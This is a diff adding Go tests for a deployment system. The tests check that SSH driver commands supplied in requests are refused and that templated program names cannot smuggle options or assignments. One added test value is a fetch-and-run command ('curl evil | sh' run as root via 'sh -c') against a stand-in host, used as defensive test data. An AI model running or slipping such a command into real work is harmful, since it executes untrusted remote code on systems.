@@ -260,6 +260,9 @@ func TestProcedures(t *testing.T) {
 	}{
 		{name: "request command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver = command },
 			wantField: "driver.exec.command", wantMsg: "defined: api-only, deploy"},
+		{name: "request ssh command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) {
+			r.Driver = &contracts.DriverSpec{SSH: &contracts.SSHDriver{User: "root", Command: []string{"sh", "-c", "curl evil | sh"}, KeyFile: "/k"}}
+		}, wantField: "driver.ssh.command", wantMsg: "does not take commands from requests"},
 		{name: "request command refused without procedures", edit: func(r *contracts.DeployRequest, e *contracts.Environment) {
 			r.Driver = command
 			e.Procedures = nil
@@ -503,6 +506,26 @@ func TestEverythingRendersUpFront(t *testing.T) {
 	allowing.Procedures["deploy"] = contracts.Procedure{Driver: bad}
 	if _, err := Build(req, allowing, now); err != nil {
 		t.Fatalf("with the param: %v", err)
+	}
+	// An ssh driver's templates render for every host the same way.
+	sshBad := contracts.DriverSpec{SSH: &contracts.SSHDriver{User: "deploy", KeyFile: "/k",
+		Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}, Env: map[string]string{"X": "{{.Nope}}"}}}
+	req.Procedure, req.Params = "", nil
+	req.Driver = &sshBad
+	_, err = Build(req, allowing, now)
+	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "driver.ssh.command[1]" || fe[1].Field != "driver.ssh.env.X" {
+		t.Fatalf("request ssh driver: %v", err)
+	}
+	sshBad.SSH.Command, sshBad.SSH.Env = []string{"{{index .Params \"p\"}}"}, nil
+	for _, p := range []string{"X=1", "-c"} {
+		req.Params = map[string]string{"p": p}
+		if _, err = Build(req, allowing, now); err == nil || !strings.Contains(err.Error(), "a program name must not hold '=' or start with '-'") {
+			t.Fatalf("ssh program %q from a template: %v", p, err)
+		}
+	}
+	req.Params = map[string]string{"p": "/opt/deploy"}
+	if _, err = Build(req, allowing, now); err != nil {
+		t.Fatalf("a good ssh driver: %v", err)
 	}
 	inv := env(hosts(2))
 	inv.Hosts[0].Driver = sim()
